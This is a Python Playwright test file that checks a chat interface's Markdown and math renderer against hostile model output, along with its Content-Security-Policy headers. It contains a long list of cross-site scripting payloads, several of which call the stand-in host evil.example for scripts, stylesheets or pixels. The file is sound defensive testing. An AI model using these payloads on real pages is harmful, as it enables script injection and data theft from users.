"""A model that writes to harm: nothing runs, nothing is loaded, nothing but text and a few elements."""

import pytest
from playwright.async_api import expect
from web_kit import relay

from konko_async.testing import Answer, FaultServer

pytestmark = pytest.mark.asyncio(loop_scope="session")

ATTACKS = [
    "<script>window.pwned = 1</script>",
    "<script src=http://evil.example/x.js></script>",
    "</div></article><script>window.pwned = 1</script>",
    "<img src=x onerror=window.pwned=1>",
    '<img src="http://evil.example/pixel.png">',
    "![pixel](http://evil.example/pixel.png)",
    '![x](x"onerror="window.pwned=1)',
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<svg onload=window.pwned=1><circle/></svg>",
    "<svg><script>window.pwned=1</script></svg>",
    "<math><mtext></mtext><script>window.pwned=1</script></math>",
    "<iframe src=javascript:window.pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=javascript:window.pwned=1></object><embed src=x>",
    "<style>@import 'http://evil.example/x.css'; body{display:none}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example><input autofocus onfocus=window.pwned=1></form>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<body onload=window.pwned=1>",
    "<template><script>window.pwned=1</script></template>",
    "<x-y style=background:url(http://evil.example)>",
    "<a href=javascript:window.pwned=1>x</a>",
    "[x](javascript:window.pwned=1)",
    "[x](JaVaScRiPt:window.pwned=1)",
    "[x](java\tscript:window.pwned=1) [x](java\nscript:window.pwned=1)",
    "[x](<javascript:window.pwned=1>)",
    "[x](&#106;avascript:window.pwned=1) [x](&#x6A;avascript:window.pwned=1)",
    "[x](\\javascript:window.pwned=1) [x]( javascript:window.pwned=1)",
    "[x](\u0001javascript:window.pwned=1) [x](\u00a0javascript:window.pwned=1)",
    "[x](vbscript:x) [x](file:///etc/passwd) [x](blob:http://a/b) [x](//evil.example)",
    "[x](data:text/html,<script>window.pwned=1</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)",
    '[x](http://a.example"onmouseover="window.pwned=1)',
    "[x](http://a.example 'title\" onmouseover=\"window.pwned=1')",
    "[x](https:javascript:window.pwned=1) [x](http://javascript:window.pwned=1)",
    '<javascript:window.pwned=1> <data:text/html,x> <http://a.example/"onclick=window.pwned=1>',
    "http://a.example/'onclick='window.pwned=1 https://a.example/<script>window.pwned=1</script>",
    "`<img src=x onerror=window.pwned=1>` ``<script>window.pwned=1</script>``",
    "```html\n<script>window.pwned=1</script>\n```",
    '```"><img src=x onerror=window.pwned=1>\ncode\n```',
    "```</code></pre><script>window.pwned=1</script>\nx\n```",
    "| <script>window.pwned=1</script> | <img src=x onerror=window.pwned=1> |\n|---|---|\n| <svg onload=window.pwned=1> | [x](javascript:window.pwned=1) |",
    "# <script>window.pwned=1</script>\n> <img src=x onerror=window.pwned=1>\n- <svg/onload=window.pwned=1>\n",
    "**<b onmouseover=window.pwned=1>** *[x](javascript:window.pwned=1)* ~~<script>~~",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;",
    "<br onload=window.pwned=1> <br/onerror=window.pwned=1> <br>",
    "[a](http://a.example)[b](javascript:window.pwned=1)![c](javascript:window.pwned=1)",
    "[![x](javascript:window.pwned=1)](javascript:window.pwned=1)",
    "[![x](http://a.example/i.png)](http://a.example)",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} <%= 1 %>",
    "<!--<img src=x onerror=window.pwned=1>--> <![CDATA[<script>window.pwned=1</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
    "<scr\0ipt>window.pwned=1</scr\0ipt> \u202e<script>",
    'data: {"choices": []}\n\nevent: x\n\n: ping\n\nid: 9\r\ndata: [DONE]\n\n',
    r"\(\href{javascript:window.pwned=1}{x}\) $\url{javascript:window.pwned=1}$ $\htmlData{x=y}{a}$",
    r"$\text{<img src=x onerror=window.pwned=1>}$ $$<script>window.pwned=1</script>$$ $\text{</math><script>}$",
    r"\(\style{background:url(http://evil.example)}{x}\) \(\class{tool}{x}\) \(\id{question}{x}\)",
    r"\(\includegraphics{http://evil.example/x.png}\) $\color{red;background:url(http://evil.example)}{x}$",
    r"$\def\a{\a\a}\a$ $\color[rgb]{1,2}{x}$ $\colorbox{url(http://evil.example)}{x}$ $\rule{99999em}{99999em}$",
    "__proto__ constructor &constructor; &toString; ```__proto__\nx\n```",
]  # fmt: skip

TAGS = [
    "P",
    "H3",
    "H4",
    "H5",
    "H6",
    "EM",
    "STRONG",
    "DEL",
    "CODE",
    "BR",
    "A",
    "UL",
    "OL",
    "LI",
    "BLOCKQUOTE",
    "HR",
    "PRE",
    "DIV",
    "SPAN",
    "BUTTON",
    "TABLE",
    "THEAD",
    "TBODY",
    "TR",
    "TH",
    "TD",
    "SUP",
]
CODE = ("keyword", "meta", "text", "added", "number", "value", "call", "type", "comment", "removed")
ATTRIBUTES = [
    "class",
    "href",
    "target",
    "rel",
    "title",
    "start",
    "tabindex",
    "role",
    "aria-label",
    "type",
    "scope",
    "data-source",
]

INSPECT = """
(root) => [...root.querySelectorAll("*")].map((element) => [
    element.nodeName,
    [...element.attributes].map((one) => one.name),
    element.getAttribute("href"),
    element.getAttribute("class") ?? "",
    element.getAttribute("style") ?? "",
])
"""

# Each attack, drawn after each character, within the document, where it would come alive.
DRAW_EACH = """
async (texts) => {
    const { Markdown } = await import("/assets/markdown.js");
    const frame = () => new Promise(requestAnimationFrame);
    for (const text of texts) {
        for (const step of [1, text.length]) {
            const element = document.createElement("div");
            element.className = "prose";
            document.getElementById("turns").append(element);
            const markdown = new Markdown(element);
            for (let at = 0; at < text.length; at += step) {
                markdown.write(text.slice(at, at + step));
                markdown.draw();
            }
            markdown.end();
        }
        await frame();
    }
    const { formulasSet } = await import("/assets/js/markdown/math.js");
    await formulasSet();
}
"""
# Of what is within a formula.
MATH = {
    *(
        "math",
        "mrow",
        "mi",
        "mn",
        "mo",
        "mtext",
        "mspace",
        "mstyle",
        "mpadded",
        "mphantom",
        "merror",
    ),
    *("msup", "msub", "msubsup", "mfrac", "msqrt", "mroot", "mover", "munder", "munderover"),
    *("mtable", "mtr", "mtd", "menclose", "semantics", "annotation"),
}


class Watch:
    """What a page asks for, and what it would show on top of itself."""

    def __init__(self, page):
        self.requests = []
        self.dialogs = []
        page.on("request", lambda request: self.requests.append(request.url))
        page.on("dialog", lambda dialog: self.dialogs.append(dialog.message))


async def inspect(page):
    """No script has run, and there is nothing that could."""
    for root in await page.query_selector_all(".prose"):
        for tag, attributes, href, classes, style in await root.evaluate(INSPECT):
            if tag in MATH:
                assert not {"href", "src", "id", "xlink:href", "actiontype"} & {*attributes}
                assert not [name for name in attributes if name.startswith("on")]
                assert "url(" not in style
                assert "tool" not in classes
                continue
            assert tag in TAGS, tag
            assert set(attributes) <= set(ATTRIBUTES), (tag, attributes)
            if tag == "A":
                assert href.startswith(("http://", "https://", "mailto:")), href
                assert "rel" in attributes
            assert set(classes.split()) <= {
                *("code", "code-head", "lang", "copy-code", "table", "loose", "picture"),
                *("left", "right", "center", *(f"level-{n}" for n in range(1, 7))),
                *(f"hl-{kind}" for kind in CODE),
                *("math", "block", "note", "linked"),
            }
    assert await page.evaluate("window.pwned") is None


# Without its Content-Security-Policy too: that is the second line of defence, not the first.
@pytest.mark.parametrize("bypass_csp", [False, True], ids=["policy", "no-policy"])
async def test_nothing_that_a_model_writes_comes_alive(new_page, address, bypass_csp):
    page = await new_page(bypass_csp=bypass_csp)
    watch = Watch(page.page)
    await page.open(address)
    await page.page.evaluate(DRAW_EACH, ATTACKS)
    await inspect(page.page)
    for link in await page.page.query_selector_all(".prose a"):
        await link.dispatch_event("mouseover")
    assert await page.page.evaluate("window.pwned") is None
    assert all(url.startswith(address) for url in watch.requests)
    assert not watch.dialogs
    assert len(await page.page.query_selector_all(".prose")) == 2 * len(ATTACKS)


async def test_nothing_comes_alive_on_its_way_through_the_relay(new_page):
    text = "\n\n".join(attack.replace("```", "~~~") for attack in ATTACKS)
    pieces = [text[at : at + 3] for at in range(0, len(text), 3)]
    page = await new_page()
    watch = Watch(page.page)
    async with (
        FaultServer(Answer.stream(pieces)) as upstream,
        relay(upstream.base_url) as (address, _),
    ):
        await page.open(address)
        await page.ask("<img src=x onerror=window.pwned=1>")
        await expect(page.answer()).to_have_attribute("data-state", "done", timeout=60_000)
        await inspect(page.page)
        shown = await page.page.locator(".question-text").inner_text()
        assert shown == "<img src=x onerror=window.pwned=1>"
        assert all(url.startswith(address) for url in watch.requests)
        assert not watch.dialogs
        # All of it is there to be read.
        assert "window.pwned = 1" in await page.prose().inner_text()
        await page.page.close()


async def test_a_link_with_an_attack_in_it_does_nothing(page, address):
    watch = Watch(page.page)
    await page.page.goto(
        f"{address}#stream=../../x,%3Cscript%3E,ok&q=%3Cimg src=x onerror=window.pwned=1%3E"
    )
    await expect(page.page.locator(".question-text")).to_have_text(
        "<img src=x onerror=window.pwned=1>"
    )
    await expect(page.answer().locator(".error")).to_contain_text("There is no such answer")
    assert await page.page.evaluate("window.pwned") is None
    streams = [url for url in watch.requests if "/streams/" in url]
    assert streams == [f"{address}v1/streams/ok"]


async def test_the_page_has_its_policy_and_keeps_to_it(page, address):
    response = await page.page.goto(address)
    headers = await response.all_headers()
    policy = headers["content-security-policy"]
    assert policy.startswith("default-src 'none'; script-src 'self'; style-src 'self';")
    assert "unsafe" not in policy
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-frame-options"] == "DENY"
    blocked = await page.page.evaluate(
        """() => new Promise((resolve) => {
            addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
            document.body.setAttribute("style", "color: red");
        })"""
    )
    assert blocked == "style-src-attr"
    # What makes a script of a text gets none, and what makes HTML of one makes text of it.
    shown = await page.page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.pwned = 1";
            document.body.append(script);
            const box = document.createElement("div");
            box.innerHTML = "<b onclick='x()'>&amp;</b>";
            let refused = false;
            try {
                script.src = "https://evil.example/x.js";
            } catch (error) {
                refused = error instanceof TypeError;
            }
            return [window.pwned ?? null, box.children.length, box.textContent, refused];
        }"""
    )
    assert shown == [None, 0, "<b onclick='x()'>&amp;</b>", True]
    page.problems.clear()  # the browser says that it blocked it
